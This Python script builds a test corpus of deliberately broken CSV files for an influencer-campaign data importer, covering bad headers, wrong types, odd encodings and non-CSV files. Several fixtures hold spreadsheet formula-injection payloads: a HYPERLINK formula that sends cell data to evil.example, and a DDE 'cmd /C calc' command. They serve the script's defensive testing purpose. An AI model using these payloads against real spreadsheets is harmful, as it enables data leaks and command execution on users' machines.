"""Write the committed bad-input corpus `tests/data/bad_csv/` (run it after changing a file here).

    .venv/bin/python -m tests.etl_corpus.build_corpus

Each file is small and written byte-exactly (encodings, BOMs, CRLF, NUL bytes, gzip with mtime 0), so
the corpus is reproducible. What each file must do is in `tests/data/bad_csv/expected.json` (written by
hand, not by this script). The 20 MB single-line file is generated at test time (`huge_line_csv`), never
committed.
"""

from __future__ import annotations

import codecs
import gzip
from pathlib import Path

CORPUS = Path(__file__).resolve().parents[1] / "data" / "bad_csv"

INF = "platform,handle,name,category,country,language,followers\n"
PM = "platform,post_id,date,likes,comments,shares,saves,views,reach,impressions\n"
POSTS = "platform,post_id,handle,posted_at,content_type,sponsored,campaign\n"
CAMP = "name,brand,objective,status,start_date,end_date,budget,currency\n"
AUD = "platform,handle,dimension,bucket,share\n"
HIRES = "campaign,platform,handle,status,agreed_cost,hired_at\n"
CONV = "campaign,platform,handle,date,clicks,orders,revenue\n"
PROFILES = "Rank,Channel Info,Followers,Avg. Likes,60-Day Eng Rate,Country\n"

FILES: dict[str, str | bytes] = {
    # --- header shape ------------------------------------------------------------------------------
    "influencers_missing_column.csv": "platform,name,followers\ninstagram,Nia,100\n",
    "influencers_extra_columns.csv": (
        "platform,handle,shoe_size,followers,notes\n"
        "instagram,nia,42,1500,likes cats\n"
        "tiktok,omar,44,250000,\n"
    ),
    "influencers_reordered_header.csv": (
        "Followers, Handle ,PLATFORM,name\n"
        "31000,nia,Instagram,Nia Okafor\n"
        "720000,@omar,TIKTOK,Omar S\n"
    ),
    "post_metrics_ragged_row.csv": PM + "instagram,p1,2026-03-02,10,1,0,0,,,\ninstagram,p1,2026-03-03,1,1,0,0,,,,9\n",
    "post_metrics_short_row.csv": PM + "instagram,p1,2026-03-02,10,1,0,0,,,\ninstagram,p1,2026-03-03,4\n",
    # --- values ------------------------------------------------------------------------------------
    "influencers_wrong_types.csv": INF + (
        "instagram,nia,Nia,beauty,NG,en,lots\n"
        "instagram,omar,Omar,tech,EG,ar,12.5\n"
        "instagram,lea,Lea,food,FR,fr,1e3\n"
        "instagram,kai,Kai,travel,NZ,en,4200\n"
    ),
    "influencers_negative_and_huge.csv": INF + (
        "instagram,nia,Nia,beauty,NG,en,-5\n"
        "instagram,omar,Omar,tech,EG,ar,9999999999999999\n"
        "instagram,kai,Kai,travel,NZ,en,999999999999\n"
    ),
    "influencers_nan_inf.csv": INF + (
        "instagram,nia,Nia,beauty,NG,en,NaN\n"
        "instagram,omar,Omar,tech,EG,ar,inf\n"
        "instagram,lea,Lea,food,FR,fr,-Infinity\n"
        "instagram,kai,Kai,travel,NZ,en,77\n"
    ),
    "influencers_duplicate_keys.csv": INF + (
        "instagram,nia,Nia,beauty,NG,en,100\n"
        "Instagram,@nia,Nia again,beauty,NG,en,200\n"
        "tiktok,nia,Nia on TikTok,beauty,NG,en,300\n"
    ),
    "influencers_too_long_text.csv": INF + (
        "instagram,nia," + "N" * 201 + ",beauty,NG,en,100\n"
        "instagram," + "h" * 256 + ",Long handle,beauty,NG,en,100\n"
        "instagram,kai,Kai,travel,NZ,en,100\n"
    ),
    "post_metrics_wrong_types.csv": PM + (
        "instagram,p1,2026-03-02,ten,1,0,0,,,\n"
        "instagram,p1,2026-13-01,1,1,0,0,,,\n"
        "instagram,p1,2026-02-30,1,1,0,0,,,\n"
        "instagram,p1,03/04/2026,1,1,0,0,,,\n"
        "instagram,p1,2026-03-05,1,1,0,0,1.5,,\n"
        "instagram,p1,2026-03-06,7,2,1,0,,,\n"
    ),
    "post_metrics_negative_and_huge.csv": PM + (
        "instagram,p1,2026-03-02,-1,0,0,0,,,\n"
        "instagram,p1,2026-03-03,0,-0.5,0,0,,,\n"
        "instagram,p1,2026-03-04,0,0,0,0,1000000000000000000000,,\n"
        "instagram,p1,2026-03-05,3,0,0,0,,,\n"
    ),
    "post_metrics_nan_inf.csv": PM + (
        "instagram,p1,2026-03-02,nan,0,0,0,,,\n"
        "instagram,p1,2026-03-03,0,0,0,0,Infinity,,\n"
        "instagram,p1,2026-03-04,0,0,0,0,,,+inf\n"
        "instagram,p1,2026-03-05,5,0,0,0,,,\n"
    ),
    "post_metrics_future_and_ancient_dates.csv": PM + (
        "instagram,p1,2099-01-01,1,0,0,0,,,\n"
        "instagram,p1,1999-12-31,1,0,0,0,,,\n"
        "instagram,p1,2026-03-02,1,0,0,0,,,\n"
    ),
    "post_metrics_unknown_post.csv": PM + (
        "instagram,nope,2026-03-02,1,0,0,0,,,\n"
        "tiktok,p1,2026-03-02,1,0,0,0,,,\n"
        "instagram,p1,2026-03-02,2,0,0,0,,,\n"
    ),
    "post_metrics_duplicate_days.csv": PM + (
        "instagram,p1,2026-03-02,1,0,0,0,,,\n"
        "tiktok,t1,2026-03-02,2,0,0,0,,,\n"
        "INSTAGRAM,p1,2026-03-02,3,0,0,0,,,\n"
        "instagram,p1,2026-03-02,4,0,0,0,,,\n"
    ),
    "posts_bad_rows.csv": POSTS + (
        "instagram,p9,ana,2099-05-01T10:00:00Z,reel,true,\n"
        "instagram,p10,ghost,2026-03-02T10:00:00Z,reel,false,\n"
        "instagram,p11,ana,2026-03-02T10:00:00Z,reel,true,No Such Campaign\n"
        "instagram,p12,ana,2026-03-02T10:00:00Z,reel,maybe,\n"
        "instagram,p13,ana,2026-03-02T10:00:00Z,,false,\n"
        "instagram,p14,ana,2026-03-02 25:00,image,false,\n"
        "instagram,p15,ana,2026-03-02T10:00:00+02:00,image,yes,Spring Glow\n"
    ),
    "campaigns_bad_rows.csv": CAMP + (
        "Backwards,Lumi,awareness,active,2026-05-01,2026-04-01,100,USD\n"
        "Dollars,Lumi,awareness,active,2026-05-01,,100,dollars\n"
        "Running,Lumi,awareness,running,2026-05-01,,100,USD\n"
        "Negative,Lumi,awareness,draft,,,-100,USD\n"
        "Cents,Lumi,awareness,draft,,,100.123,USD\n"
        'Formula,Lumi,awareness,draft,,,"=HYPERLINK(""http://evil.example/?q=""&A1,""click"")",USD\n'
        ",Lumi,awareness,draft,,,1,USD\n"
        "Fine,Lumi,awareness,paused,2026-05-01,2026-06-01,1200.50,eur\n"
    ),
    "audience_shares_not_summing.csv": AUD + (
        "instagram,ana,country,US,0.5\n"
        "instagram,ana,country,BR,0.3\n"
        "instagram,ana,gender,female,0.605\n"
        "instagram,ana,gender,male,0.39\n"
        "tiktok,bo,age_group,18-24,0.7\n"
        "tiktok,bo,age_group,25-34,0.4\n"
    ),
    "audience_bad_values.csv": AUD + (
        "instagram,ana,country,US,1.5\n"
        "instagram,ana,religion,none,1\n"
        "instagram,ghost,country,US,1\n"
        "tiktok,bo,gender,female,-0.1\n"
        "tiktok,bo,country,US,55%\n"
        "youtube,cy,country,DE,1\n"
    ),
    "hires_unknown_references.csv": HIRES + (
        "No Such Campaign,instagram,ana,contracted,100,\n"
        "Spring Glow,instagram,ghost,contracted,100,\n"
        "Spring Glow,instagram,ana,hired,100,\n"
        "Spring Glow,tiktok,bo,-,,\n"
        "Spring Glow,youtube,cy,live,2500,2026-03-01T09:00:00Z\n"
    ),
    "hires_bad_costs.csv": HIRES + (
        "Spring Glow,instagram,ana,contracted,-100,\n"
        "Spring Glow,tiktok,bo,contracted,10000000000000,\n"
        "Launch,instagram,ana,contracted,1 000,\n"
        "Launch,tiktok,bo,contracted,300,\n"
        "Launch,tiktok,bo,live,600,\n"
    ),
    # --- hostile (issue 10) ----------------------------------------------------------------------------
    "hires_over_budget_and_archived.csv": HIRES + (
        "Closed,tiktok,bo,contracted,999999,\n"
        "Launch,tiktok,bo,contracted,999999,\n"
        "Launch,youtube,cy,contracted,300,\n"
    ),
    "influencers_end_of_data_line.csv": INF + "instagram,nia,Nia,beauty,NG,en,100\n\\.\ntiktok,omar,Omar,food,EG,ar,200\n",
    "post_metrics_end_of_data_line.csv": PM + "tiktok,t1,2026-03-05,1,0,0,0,,,\n\\.\r\ntiktok,t1,2026-03-06,2,0,0,0,,,\n",
    "profiles_twenty_digit_followers.csv": PROFILES + "1,@nia,99999999999999999999,1k,1.5%,Nigeria\n2,@kai,12k,300,2%,New Zealand\n",
    "influencers_twenty_digit_followers.csv": INF + "instagram,nia,Nia,beauty,NG,en,99999999999999999999\ninstagram,kai,Kai,travel,NZ,en,5\n",
    "conversions_bad_rows.csv": CONV + (
        "No Such Campaign,instagram,ana,2026-03-02,1,0,0\n"
        "Spring Glow,instagram,ana,2026-03-02,\"1,234\",0,0\n"
        "Spring Glow,instagram,ana,2026-03-03,5,1,NaN\n"
        "Spring Glow,instagram,ana,2099-03-03,5,1,10\n"
        "Spring Glow,instagram,ana,2026-03-04,12,2,49.90\n"
    ),
    # --- formula injection -------------------------------------------------------------------------
    "influencers_formula_injection.csv": INF + (
        'instagram,nia,"=HYPERLINK(""http://evil.example"",""x"")",beauty,NG,en,"=1+1"\n'
        "instagram,omar,Omar,tech,EG,ar,+1+1\n"
        "instagram,lea,Lea,food,FR,fr,@SUM(A1)\n"
        "instagram,kai,\"=cmd|' /C calc'!A0\",travel,NZ,en,900\n"
        "instagram,zed,Zed,travel,NZ,en,-2+3\n"
    ),
    "profiles_formula_and_bad_values.csv": PROFILES + (
        '1,@nia,1.2m,"=HYPERLINK(""http://evil.example"")",2.5%,Nigeria\n'
        "2,@omar,lots,1k,1%,Egypt\n"
        "3,@nia,2m,1k,1%,Nigeria\n"
        "4,,3m,1k,1%,Peru\n"
        "5,@lea,-3m,1k,1%,France\n"
        "6,@kai,850k,12.3k,150%,New Zealand\n"
        "7,@zed,900k,1k,=1/0,Chile\n"
    ),
    "profiles_missing_followers.csv": "Rank,Channel Info,Avg. Likes\n1,@nia,1k\n",
    # --- encodings and line endings ----------------------------------------------------------------
    "influencers_bom.csv": codecs.BOM_UTF8 + (INF + "instagram,nia,Nia,beauty,NG,en,100\n").encode(),
    "influencers_latin1.csv": (INF + "instagram,zoe,Zoë Ünal,beauty,DE,de,100\n").encode("latin-1"),
    "influencers_utf16.csv": (INF + "instagram,zoë,Zoë Ünal,beauty,DE,de,100\n").replace("\n", "\r\n").encode("utf-16"),
    "influencers_utf16_no_bom.csv": (INF + "instagram,zoe,Zoe,beauty,DE,de,100\n").encode("utf-16-le"),
    "influencers_crlf.csv": (INF + "instagram,nia,Nia,beauty,NG,en,100\ninstagram,omar,Omar,tech,EG,ar,-1\n")
    .replace("\n", "\r\n"),
    "influencers_quoted_newlines.csv": INF + (
        'instagram,nia,"Nia\nOkafor, MD",beauty,NG,en,100\n'
        'instagram,omar,"Omar ""The Dev""\r\nSaid",tech,EG,ar,oops\n'
        "instagram,kai,Kai,travel,NZ,en,-7\n"
    ),
    "influencers_unterminated_quote.csv": INF + 'instagram,nia,"Nia Okafor,beauty,NG,en,100\ninstagram,kai,Kai,travel,NZ,en,5\n',
    "influencers_nul_bytes.csv": (INF + "instagram,nia,Nia\x00,beauty,NG,en,100\n").encode(),
    "influencers_truncated_utf8.csv": (INF + "instagram,nia,Zo").encode() + "ë".encode()[:1],
    # --- not a CSV at all --------------------------------------------------------------------------
    "empty.csv": b"",
    "whitespace_only.csv": b"\r\n \n\t\n",
    "post_metrics_header_only.csv": PM,
    "post_metrics_gzip.csv": gzip.compress((PM + "instagram,p1,2026-03-02,10,1,0,0,,,\n").encode(), mtime=0),
    "workbook_named_csv.csv": b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00" + b"[Content_Types].xml" + b"\x00" * 8,
    "no_header_row.csv": "instagram,p1,2026-03-02,10,1,0,0,,,\ninstagram,p1,2026-03-03,10,1,0,0,,,\n",
    "unknown_kind.csv": "colour,size,price\nred,M,9.99\n",
}


def build(folder: Path = CORPUS) -> list[Path]:
    folder.mkdir(parents=True, exist_ok=True)
    written = []
    for name, content in FILES.items():
        path = folder / name
        path.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))
        written.append(path)
    return written


if __name__ == "__main__":
    for path in build():
        print(f"{path.stat().st_size:>8d}  {path.name}")
